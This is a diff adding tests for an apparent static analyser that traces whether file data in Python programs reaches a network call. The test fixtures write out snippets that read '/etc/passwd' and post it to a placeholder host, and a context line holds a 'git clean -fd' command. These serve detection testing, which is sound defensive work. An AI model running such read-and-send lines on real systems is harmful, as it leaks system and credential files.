@@ -56,6 +56,27 @@ describe("a list that only one branch changes", () => {
   });
 });
 
+describe("an object of a library whose methods are unknown", () => {
+  /** A program that sends an object after lines that may put a secret into it. */
+  const sent = (lines: string): readonly string[] => {
+    const program = `import requests, sys\nform = requests.Request()\nkey = "none"\n${lines}\nrequests.post("https://a.b", data=form)`;
+    const network = readPython(program).effects.find(({ kind }) => kind === "network");
+    return network?.kind === "network" ? network.from.map(({ kind }) => kind) : [];
+  };
+
+  it("keeps the data that it was given, however often", () => {
+    const key = 'key = open("/etc/passwd").read()';
+    expect(sent(`${key}\nform.add(key)`)).toEqual(["file"]);
+    expect(sent(`for name in ["a", "b"]:\n  form.add(key)\n  ${key}`)).toEqual(["file"]);
+    const many = Array.from({ length: 30 }, (_, nth) => `form.add(open("data/${nth}").read())`).join("\n");
+    expect(sent(`${many}\n${key}\nform.add(key)`)).toContain("unknown");
+  });
+
+  it("does not have what only a path gave it that has ended", () => {
+    expect(sent('if len(sys.argv) > 9:\n  form.add(open("/etc/passwd").read())\n  sys.exit()')).toEqual([]);
+  });
+});
+
 describe("removing items from a list", () => {
   it.each([
     ["cmd.remove('-n')", "['git', 'clean', '-fd', '-n']"],
